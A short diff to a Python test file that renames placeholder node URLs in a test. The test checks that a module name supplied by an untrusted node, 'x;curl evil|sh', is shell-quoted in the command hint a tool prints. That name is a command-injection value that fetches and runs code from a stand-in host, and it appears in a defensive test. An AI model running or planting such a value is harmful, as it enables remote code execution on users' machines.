@@ -106,7 +106,7 @@ def test_comparing_names_the_modules_that_differ_and_the_next_command(
 def test_a_module_that_a_node_made_up_is_quoted_in_the_next_command() -> None:
     here, there = (
         Told(url, Roots(bytes(32), (Root("x;curl evil|sh", entries, bytes(32)),)))
-        for url, entries in (("http://a", 1), ("http://b", 2))
+        for url, entries in (("http://a.example.org", 1), ("http://b.example.org", 2))
     )
 
     with pytest.raises(StatesDiffer) as refused:
@@ -114,7 +114,7 @@ def test_a_module_that_a_node_made_up_is_quoted_in_the_next_command() -> None:
 
     assert refused.value.hint == (
         "find the entries: dchat query entries 'x;curl evil|sh' --chain chat --height 5"
-        " --rpc http://a --compare http://b"
+        " --rpc http://a.example.org --compare http://b.example.org"
     )
 
 
